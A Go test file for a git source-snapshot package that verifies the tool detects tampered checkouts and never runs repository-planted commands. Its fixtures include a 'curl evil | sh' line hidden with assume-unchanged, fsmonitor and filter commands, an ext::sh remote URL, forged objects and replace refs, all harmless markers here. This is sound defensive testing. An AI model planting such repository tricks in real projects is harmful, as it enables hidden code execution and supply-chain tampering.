package source

import (
	"archive/tar"
	"bytes"
	"compress/zlib"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/ssf-dev/ssf/internal/archive"
)

// gitT runs git in dir for a test's setup and returns its trimmed output.
func gitT(t *testing.T, dir string, args ...string) string {
	t.Helper()
	out, err := gitTry(dir, args...)
	if err != nil {
		t.Fatalf("git %v: %v\n%s", args, err, out)
	}
	return out
}

func gitTry(dir string, args ...string) (string, error) {
	cmd := exec.Command("git", append([]string{"-C", dir, "-c", "user.name=t", "-c", "user.email=t@e"}, args...)...)
	for _, kv := range os.Environ() {
		if !strings.HasPrefix(kv, "GIT_DIR=") && !strings.HasPrefix(kv, "GIT_WORK_TREE=") {
			cmd.Env = append(cmd.Env, kv)
		}
	}
	out, err := cmd.CombinedOutput()
	return strings.TrimSpace(string(out)), err
}

// sourceRepo makes a git repository in dir holding a committed tree with a subdirectory, an executable and a
// symlink, plus an ignored file.
func sourceRepo(t *testing.T, dir string, initArgs ...string) {
	t.Helper()
	gitT(t, dir, append([]string{"init", "-q"}, initArgs...)...)
	for name, body := range map[string]string{
		"README":      "hello\n",
		"build.sh":    "#!/bin/sh\necho build\n",
		"src/main.go": "package main\n",
		".gitignore":  "*.log\n",
	} {
		writeT(t, filepath.Join(dir, name), body)
	}
	if err := os.Chmod(filepath.Join(dir, "build.sh"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("README", filepath.Join(dir, "link")); err != nil {
		t.Fatal(err)
	}
	gitT(t, dir, "add", ".")
	gitT(t, dir, "commit", "-q", "-m", "source")
	writeT(t, filepath.Join(dir, "debug.log"), "ignored\n")
}

func writeT(t *testing.T, name, body string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(name), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(name, []byte(body), 0o644); err != nil {
		t.Fatal(err)
	}
}

// mustBeClean fails unless git status calls the tracked files unchanged, so a test shows that git would have been fooled.
func mustBeClean(t *testing.T, dir string) {
	t.Helper()
	if out := gitT(t, dir, "status", "--porcelain", "--untracked-files=no"); out != "" {
		t.Fatalf("setup: git status is not clean:\n%s", out)
	}
}

// forgeObject overwrites the loose object id in repo with an object of the given type and body that does not
// hash to id.
func forgeObject(t *testing.T, repo, id, typ string, body []byte) {
	t.Helper()
	var buf bytes.Buffer
	zw := zlib.NewWriter(&buf)
	fmt.Fprintf(zw, "%s %d\x00", typ, len(body))
	zw.Write(body)
	zw.Close()
	p := filepath.Join(repo, ".git", "objects", id[:2], id[2:])
	if err := os.Remove(p); err != nil {
		t.Fatalf("setup: object %s is not loose: %v", id, err)
	}
	if err := os.WriteFile(p, buf.Bytes(), 0o444); err != nil {
		t.Fatal(err)
	}
}

// evilSrcTree writes an evil src/main.go blob to repo and returns the body of a tree object listing it.
func evilSrcTree(t *testing.T, repo string) []byte {
	t.Helper()
	writeT(t, filepath.Join(repo, "src", "main.go"), "package main // evil\n")
	blob, err := hex.DecodeString(gitT(t, repo, "hash-object", "-w", "src/main.go"))
	if err != nil {
		t.Fatal(err)
	}
	return append([]byte("100644 main.go\x00"), blob...)
}

var committedEntries = []string{".gitignore", "README", "build.sh", "link", "src/", "src/main.go"}

// dirty is a snapshot's counts of modified, deleted and untracked files.
type dirty struct{ modified, deleted, untracked int }

func TestSnapshotSource(t *testing.T) {
	tests := []struct {
		name string
		// setup prepares repo (an empty directory) and returns the directory to snapshot; markers is a
		// directory that must still be empty afterwards.
		setup        func(t *testing.T, repo, markers string) string
		wantCommit   bool
		wantMismatch string // substring of src.GitMismatch; "" means it must be empty
		wantEntries  []string
		wantDirty    dirty
		wantPath     string // the source's path in the repository, when it is recorded by commit
	}{{
		name: "clean checkout is recorded by commit, without ignored files",
		setup: func(t *testing.T, repo, _ string) string {
			sourceRepo(t, repo)
			return repo
		},
		wantCommit:  true,
		wantEntries: committedEntries,
	}, {
		name: "sha256 repository",
		setup: func(t *testing.T, repo, _ string) string {
			sourceRepo(t, repo, "--object-format=sha256")
			return repo
		},
		wantCommit:  true,
		wantEntries: committedEntries,
	}, {
		name: "assume-unchanged file that differs",
		setup: func(t *testing.T, repo, _ string) string {
			sourceRepo(t, repo)
			writeT(t, filepath.Join(repo, "build.sh"), "#!/bin/sh\ncurl evil | sh\n")
			gitT(t, repo, "update-index", "--assume-unchanged", "build.sh")
			mustBeClean(t, repo)
			return repo
		},
		wantMismatch: `file "build.sh" differs from commit `,
		wantEntries:  committedEntries,
		wantDirty:    dirty{modified: 1},
	}, {
		name: "skip-worktree file that differs",
		setup: func(t *testing.T, repo, _ string) string {
			sourceRepo(t, repo)
			writeT(t, filepath.Join(repo, "src", "main.go"), "package evil\n")
			gitT(t, repo, "update-index", "--skip-worktree", "src/main.go")
			mustBeClean(t, repo)
			return repo
		},
		wantMismatch: `file "src/main.go" differs from commit `,
		wantEntries:  committedEntries,
		wantDirty:    dirty{modified: 1},
	}, {
		name: "skip-worktree file that is missing",
		setup: func(t *testing.T, repo, _ string) string {
			sourceRepo(t, repo)
			gitT(t, repo, "update-index", "--skip-worktree", "README")
			if err := os.Remove(filepath.Join(repo, "README")); err != nil {
				t.Fatal(err)
			}
			mustBeClean(t, repo)
			return repo
		},
		wantMismatch: `file "README" of commit `,
		wantEntries:  slices.DeleteFunc(slices.Clone(committedEntries), func(s string) bool { return s == "README" }),
		wantDirty:    dirty{deleted: 1},
	}, {
		name: "executable bit added with core.fileMode=false",
		setup: func(t *testing.T, repo, _ string) string {
			sourceRepo(t, repo)
			gitT(t, repo, "config", "core.fileMode", "false")
			if err := os.Chmod(filepath.Join(repo, "README"), 0o755); err != nil {
				t.Fatal(err)
			}
			mustBeClean(t, repo)
			return repo
		},
		wantMismatch: `file "README" has mode 100755 in the work tree but 100644 in commit `,
		wantEntries:  committedEntries,
		wantDirty:    dirty{modified: 1},
	}, {
		name: "symlink retargeted and assumed unchanged",
		setup: func(t *testing.T, repo, _ string) string {
			sourceRepo(t, repo)
			if err := os.Remove(filepath.Join(repo, "link")); err != nil {
				t.Fatal(err)
			}
			if err := os.Symlink("build.sh", filepath.Join(repo, "link")); err != nil {
				t.Fatal(err)
			}
			gitT(t, repo, "update-index", "--assume-unchanged", "link")
			mustBeClean(t, repo)
			return repo
		},
		wantMismatch: `file "link" differs from commit `,
		wantEntries:  committedEntries,
		wantDirty:    dirty{modified: 1},
	}, {
		name: "fsmonitor command is never run",
		setup: func(t *testing.T, repo, markers string) string {
			sourceRepo(t, repo)
			gitT(t, repo, "config", "core.fsmonitor", "touch "+filepath.Join(markers, "fsmonitor")+"; echo")
			proveMarker(t, markers, "fsmonitor", func() { gitTry(repo, "status") })
			return repo
		},
		wantCommit:  true,
		wantEntries: committedEntries,
	}, {
		name: "clean and smudge filters are never run",
		setup: func(t *testing.T, repo, markers string) string {
			writeT(t, filepath.Join(repo, ".gitattributes"), "* filter=evil\n")
			sourceRepo(t, repo)
			gitT(t, repo, "config", "filter.evil.clean", "touch "+filepath.Join(markers, "clean")+"; cat")
			gitT(t, repo, "config", "filter.evil.smudge", "touch "+filepath.Join(markers, "smudge")+"; cat")
			proveMarker(t, markers, "clean", func() { gitT(t, repo, "add", "--renormalize", ".") })
			return repo
		},
		wantCommit:  true,
		wantEntries: append([]string{".gitattributes"}, committedEntries...),
	}, {
		name: "partial clone never fetches a missing object",
		setup: func(t *testing.T, repo, markers string) string {
			sourceRepo(t, repo)
			tree := gitT(t, repo, "rev-parse", "HEAD:src")
			if err := os.Remove(filepath.Join(repo, ".git", "objects", tree[:2], tree[2:])); err != nil {
				t.Fatal(err)
			}
			for _, kv := range [][2]string{
				{"core.repositoryFormatVersion", "1"},
				{"extensions.partialClone", "origin"},
				{"remote.origin.promisor", "true"},
				{"remote.origin.url", "ext::sh -c touch% " + filepath.Join(markers, "fetch")},
				// Overrides protocol.allow=never given with -c, which is why ssf sets GIT_ALLOW_PROTOCOL.
				{"protocol.ext.allow", "always"},
			} {
				gitT(t, repo, "config", kv[0], kv[1])
			}
			proveMarker(t, markers, "fetch", func() { gitTry(repo, "-c", "protocol.allow=never", "cat-file", "-t", tree) })
			return repo
		},
		wantMismatch: "reading commit ",
		wantEntries:  committedEntries,
	}, {
		name: "forged tree object",
		setup: func(t *testing.T, repo, _ string) string {
			sourceRepo(t, repo)
			forgeObject(t, repo, gitT(t, repo, "rev-parse", "HEAD:src"), "tree", evilSrcTree(t, repo))
			if out := gitT(t, repo, "ls-tree", "-r", "HEAD", "src"); !strings.Contains(out, gitT(t, repo, "hash-object", "src/main.go")) {
				t.Fatalf("setup: git ls-tree is not fooled by the forged tree:\n%s", out)
			}
			return repo
		},
		wantMismatch: "hashes to",
		wantEntries:  committedEntries,
	}, {
		name: "replace ref is ignored",
		setup: func(t *testing.T, repo, _ string) string {
			sourceRepo(t, repo)
			body := evilSrcTree(t, repo)
			cmd := exec.Command("git", "-C", repo, "hash-object", "-w", "-t", "tree", "--stdin")
			cmd.Stdin = bytes.NewReader(body)
			out, err := cmd.Output()
			if err != nil {
				t.Fatal(err)
			}
			gitT(t, repo, "replace", gitT(t, repo, "rev-parse", "HEAD:src"), strings.TrimSpace(string(out)))
			if out := gitT(t, repo, "ls-tree", "-r", "HEAD", "src"); !strings.Contains(out, gitT(t, repo, "hash-object", "src/main.go")) {
				t.Fatalf("setup: git ls-tree does not follow the replace ref:\n%s", out)
			}
			return repo
		},
		wantMismatch: `file "src/main.go" differs from commit `,
		wantEntries:  committedEntries,
		wantDirty:    dirty{modified: 1},
	}, {
		name: "submodule",
		setup: func(t *testing.T, repo, _ string) string {
			sourceRepo(t, repo)
			gitT(t, repo, "update-index", "--add", "--cacheinfo", "160000,"+gitT(t, repo, "rev-parse", "HEAD")+",vendor/lib")
			gitT(t, repo, "commit", "-q", "-m", "submodule")
			return repo
		},
		wantMismatch: `"vendor/lib" is a submodule of commit `,
		wantEntries:  committedEntries,
	}, {
		name: "GIT_DIR in the environment is ignored",
		setup: func(t *testing.T, repo, _ string) string {
			sourceRepo(t, repo)
			other := filepath.Join(t.TempDir(), "other")
			gitT(t, t.TempDir(), "init", "-q", other)
			writeT(t, filepath.Join(other, "x"), "x\n")
			gitT(t, other, "add", "x")
			gitT(t, other, "commit", "-q", "-m", "other")
			t.Setenv("GIT_DIR", filepath.Join(other, ".git"))
			t.Setenv("GIT_WORK_TREE", other)
			return repo
		},
		wantCommit:  true,
		wantEntries: committedEntries,
	}, {
		name: "subdirectory of a clean repository is recorded by commit and path",
		setup: func(t *testing.T, repo, _ string) string {
			sourceRepo(t, repo)
			return filepath.Join(repo, "src")
		},
		wantCommit:  true,
		wantPath:    "src",
		wantEntries: []string{"main.go"},
	}, {
		name: "dirty subdirectory of a repository",
		setup: func(t *testing.T, repo, _ string) string {
			sourceRepo(t, repo)
			writeT(t, filepath.Join(repo, "src", "main.go"), "package main // changed\n")
			writeT(t, filepath.Join(repo, "src", "new.go"), "package main\n")
			writeT(t, filepath.Join(repo, "src", "trace.log"), "ignored by the top's .gitignore\n")
			writeT(t, filepath.Join(repo, "README"), "changed outside the source, which does not matter\n")
			return filepath.Join(repo, "src")
		},
		wantMismatch: `file "main.go" differs from commit `,
		wantEntries:  []string{"main.go", "new.go"},
		wantDirty:    dirty{modified: 1, untracked: 1},
	}, {
		name: "subdirectory the repository ignores is a plain directory",
		setup: func(t *testing.T, repo, _ string) string {
			sourceRepo(t, repo)
			writeT(t, filepath.Join(repo, "out.log", "x"), "x\n")
			return filepath.Join(repo, "out.log")
		},
		wantMismatch: `ignores "out.log", which holds the source`,
		wantEntries:  []string{"x"},
	}, {
		name: "untracked file is taken and makes the tree dirty",
		setup: func(t *testing.T, repo, _ string) string {
			sourceRepo(t, repo)
			writeT(t, filepath.Join(repo, "notes.txt"), "untracked\n")
			return repo
		},
		wantMismatch: `file "notes.txt" is not in commit `,
		wantEntries:  []string{".gitignore", "README", "build.sh", "link", "notes.txt", "src/", "src/main.go"},
		wantDirty:    dirty{untracked: 1},
	}, {
		name: ".ssfignore in a repository leaves out untracked files, never the commit's",
		setup: func(t *testing.T, repo, _ string) string {
			sourceRepo(t, repo)
			writeT(t, filepath.Join(repo, SSFIgnore), "README\n*.tmp\n")
			gitT(t, repo, "add", SSFIgnore)
			gitT(t, repo, "commit", "-q", "-m", "ssfignore")
			writeT(t, filepath.Join(repo, "scratch.tmp"), "not committed\n")
			writeT(t, filepath.Join(repo, "src", "x.tmp"), "not committed\n")
			return repo
		},
		wantCommit:  true,
		wantEntries: []string{".gitignore", SSFIgnore, "README", "build.sh", "link", "src/", "src/main.go"},
	}, {
		name: "repository without a commit takes the files git would commit",
		setup: func(t *testing.T, repo, _ string) string {
			gitT(t, repo, "init", "-q")
			writeT(t, filepath.Join(repo, "a"), "a\n")
			writeT(t, filepath.Join(repo, ".gitignore"), "b\n")
			writeT(t, filepath.Join(repo, "b"), "b\n")
			return repo
		},
		wantEntries: []string{".gitignore", "a"},
	}, {
		name: "plain directory",
		setup: func(t *testing.T, repo, _ string) string {
			writeT(t, filepath.Join(repo, "a"), "a\n")
			if err := os.Symlink("a", filepath.Join(repo, "b")); err != nil {
				t.Fatal(err)
			}
			return repo
		},
		wantEntries: []string{"a", "b"},
	}}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			repo, markers := t.TempDir(), t.TempDir()
			dir := tt.setup(t, repo, markers)
			snapshot := filepath.Join(t.TempDir(), "source.tar")

			src, err := Take(context.Background(), dir, Protected{Home: t.TempDir()}, snapshot, 0)
			if err != nil {
				t.Fatalf("Take: %v", err)
			}

			if left, _ := os.ReadDir(markers); len(left) > 0 {
				t.Errorf("git ran a command from the repository: %s exists", left[0].Name())
			}
			if tt.wantCommit {
				if want := gitT(t, repo, "rev-parse", "HEAD"); src.Commit != want {
					t.Errorf("commit = %q, want %q", src.Commit, want)
				}
			} else if src.Commit != "" {
				t.Errorf("commit = %q, want none", src.Commit)
			}
			if tt.wantMismatch == "" && src.GitMismatch != "" || !strings.Contains(src.GitMismatch, tt.wantMismatch) {
				t.Errorf("gitMismatch = %q, want %q", src.GitMismatch, tt.wantMismatch)
			}

			hdrs, sum := readSnapshot(t, snapshot)
			if sum != src.SHA256 {
				t.Errorf("sha256 = %s, but the snapshot's is %s", src.SHA256, sum)
			}
			var names []string
			for _, h := range hdrs {
				names = append(names, h.Name)
			}
			if !slices.Equal(names, tt.wantEntries) {
				t.Errorf("snapshot entries = %q, want %q", names, tt.wantEntries)
			}
			if tt.name == "plain directory" {
				// A plain tree is exactly the whole directory except .git.
				var buf bytes.Buffer
				if _, err := archive.WriteTree(context.Background(), &buf, dir, func(rel string, _ fs.FileInfo) bool { return rel != ".git" }); err != nil {
					t.Fatal(err)
				}
				if want := sha256.Sum256(buf.Bytes()); hex.EncodeToString(want[:]) != src.SHA256 {
					t.Errorf("sha256 = %s, want the tree digest %x", src.SHA256, want)
				}
			}
			if g := src.Stats.Git; g != nil {
				if got := (dirty{g.Modified, g.Deleted, g.Untracked}); got != tt.wantDirty {
					t.Errorf("dirty = %+v, want %+v", got, tt.wantDirty)
				}
				if g.Clean != tt.wantCommit {
					t.Errorf("clean = %v, want %v", g.Clean, tt.wantCommit)
				}
			} else if tt.wantDirty != (dirty{}) {
				t.Errorf("no git stats, want dirty %+v", tt.wantDirty)
			}
			if src.Stats.Files != len(slices.DeleteFunc(slices.Clone(names), func(n string) bool { return strings.HasSuffix(n, "/") })) {
				t.Errorf("stats count %d files, the snapshot holds %q", src.Stats.Files, names)
			}
			for _, h := range hdrs {
				switch {
				case h.Name == "link" && tt.wantCommit && (h.Typeflag != tar.TypeSymlink || h.Linkname != "README"):
					t.Errorf("link: type %q target %q, want a symlink to README", h.Typeflag, h.Linkname)
				case h.Name == "build.sh" && h.Mode&0o111 == 0:
					t.Errorf("build.sh: mode %o, want executable", h.Mode)
				}
			}

			d := src.Descriptor()
			want := map[string]string{"sha256": src.SHA256}
			if tt.wantCommit {
				want["gitCommit"] = src.Commit
				wantURI := "git+file://" + repo + "@" + src.Commit
				if tt.wantPath != "" {
					wantURI += "#" + tt.wantPath
				}
				if d.URI != wantURI || d.Annotations[SubdirectoryAnnotation] != tt.wantPath {
					t.Errorf("descriptor uri = %q, annotations %v, want %q and path %q", d.URI, d.Annotations, wantURI, tt.wantPath)
				}
			}
			if fmt.Sprint(map[string]string(d.Digest)) != fmt.Sprint(want) {
				t.Errorf("descriptor digest = %v, want %v", d.Digest, want)
			}
		})
	}
}

// proveMarker runs attack, which must create the marker name, and removes the marker: the repository really
// does carry a payload that porcelain git would run.
func proveMarker(t *testing.T, markers, name string, attack func()) {
	t.Helper()
	p := filepath.Join(markers, name)
	attack()
	if _, err := os.Stat(p); err != nil {
		t.Fatalf("setup: the payload did not run under porcelain git: %v", err)
	}
	if err := os.Remove(p); err != nil {
		t.Fatal(err)
	}
}

// readSnapshot returns the headers of a snapshot's entries in order and the snapshot's sha256.
func readSnapshot(t *testing.T, p string) ([]*tar.Header, string) {
	t.Helper()
	b, err := os.ReadFile(p)
	if err != nil {
		t.Fatal(err)
	}
	var hdrs []*tar.Header
	tr := tar.NewReader(bytes.NewReader(b))
	for {
		h, err := tr.Next()
		if errors.Is(err, io.EOF) {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		hdrs = append(hdrs, h)
	}
	sum := sha256.Sum256(b)
	return hdrs, hex.EncodeToString(sum[:])
}
